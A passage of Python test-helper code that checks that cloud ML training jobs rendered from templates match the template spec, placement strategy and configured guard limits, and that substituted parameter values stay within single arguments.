    for pool in job["jobSpec"]["workerPoolSpecs"]:
        _, program = _program(pool)
        env = [(item["name"], item.get("value", "")) for item in program.get("env", [])]
        views.append(_pool_view(pool, list(program.get("args", [])), env))
    return views


def template_pools(
    template: Template, placement: Placement, values: Mapping[str, str]
) -> list[dict[str, Any]]:
    """The same view computed from the template's REST spec and the placement alone."""
    views = []
    for pool in template.job_spec["workerPoolSpecs"]:
        pool = dict(pool)
        if not isinstance(placement, PersistentResourcePlacement) and placement.machine is not None:
            machine = placement.machine
            pool["machineSpec"] = {
                "machineType": machine.machine_type,
                "acceleratorType": machine.accelerator_type,
                "acceleratorCount": machine.accelerator_count,
            }
        _, program = _program(pool)
        args = [filled(arg, values) for arg in program.get("args", [])]
        env = [(item["name"], filled(item["value"], values)) for item in program.get("env", [])]
        views.append(_pool_view(pool, args, env))
    return views


def _seconds(duration: timedelta) -> str:
    return f"{int(duration.total_seconds())}s"


def check_job_is_the_templates(outcome: Outcome, config: Config) -> None:
    """Every rendered placement is exactly the template's job: see the module docstring."""
    template = outcome.template
    assert template is not None and outcome.placements
    for rendered in outcome.placements:
        placement = rendered.placement
        region = placement.region or config.region
        values = {
            **outcome.params,
            "run_id": outcome.run_id,
            "attempt": str(outcome.attempt),
            "template": template.name,
            "project": config.project,
            "region": region,
        }
        job, spec = rendered.job, rendered.job["jobSpec"]
        assert rendered.violations == (), rendered.violations
        assert rendered.parent == f"projects/{config.project}/locations/{region}"
        assert region in config.guards.regions
        assert spec.get("serviceAccount") == template.job_spec.get("serviceAccount")
        assert spec.get("network") == template.job_spec.get("network")
        pools = job_pools(job)
        assert pools == template_pools(template, placement, values)
        gpus = sum(pool["replicas"] * pool["machine"][2] for pool in pools)
        assert gpus <= (config.guards.max_gpus_per_job or gpus)
        assert all(pool["image"].startswith(config.guards.image_prefixes) for pool in pools)
        assert job["displayName"] == filled(template.display_name, values)[:128]
        assert job["labels"] == {
            **template.labels,
            "vd-run": outcome.run_id,
            "vd-attempt": str(outcome.attempt),
            "vd-template": template.name,
        }
        scheduling = spec.get("scheduling", {})
        if template.timeout is not None:
            assert scheduling.get("timeout") == _seconds(template.timeout)
        if isinstance(placement, PersistentResourcePlacement):
            assert spec["persistentResourceId"] == placement.resource_id
            assert "strategy" not in scheduling
        elif isinstance(placement, FlexStartPlacement):
            assert "persistentResourceId" not in spec
            assert scheduling["strategy"] == "FLEX_START"
            assert scheduling["maxWaitDuration"] == _seconds(placement.max_wait)
        else:
            assert "persistentResourceId" not in spec
            assert "maxWaitDuration" not in scheduling
            assert scheduling.get("strategy") == _STRATEGIES[type(placement)]
            affinities = [
                pool["machineSpec"].get("reservationAffinity")
                for pool in spec["workerPoolSpecs"]
                if pool
            ]
            if isinstance(placement, ReservationPlacement):
                assert all(affinity is not None for affinity in affinities)
            else:
                assert affinities == [None] * len(affinities)


# The strategy each kind renders (a reservation's job leaves it unset: STANDARD to Vertex AI).
_STRATEGIES: Mapping[type, str | None] = {
    SpotPlacement: "SPOT",
    OnDemandPlacement: "STANDARD",
    ReservationPlacement: None,
}


def check_values_are_single_arguments(outcome: Outcome, values: Mapping[str, object]) -> None:
    """Each value in ``values`` sits inside exactly the arguments whose template names it, once
    each: the argument lists keep the template's length, so nothing was split or added."""
    template = outcome.template
    assert template is not None
    for rendered in outcome.placements:
        for spec_pool, pool in zip(
            template.job_spec["workerPoolSpecs"], job_pools(rendered.job), strict=True
        ):
            _, program = _program(spec_pool)
            template_args = list(program.get("args", []))
            assert len(pool["args"]) == len(template_args)
            for name, value in values.items():
                assert isinstance(value, str)
                for template_arg, arg in zip(template_args, pool["args"], strict=True):
                    if "{" + name + "}" in template_arg:
                        prefix, _, suffix = template_arg.partition("{" + name + "}")
                        if "{" not in prefix + suffix:  # the only placeholder in it
                            assert arg == prefix + value + suffix


def trigger_summary(trigger: Trigger | None) -> str:
    """A short name of what decoded, for hypothesis statistics."""
    kinds: Mapping[type, str] = {
        ObjectFinalized: "object",
        JobRequest: "request",
        ScheduleTick: "tick",
        RetryRequest: "retry",
    }
    return kinds.get(type(trigger), "none")
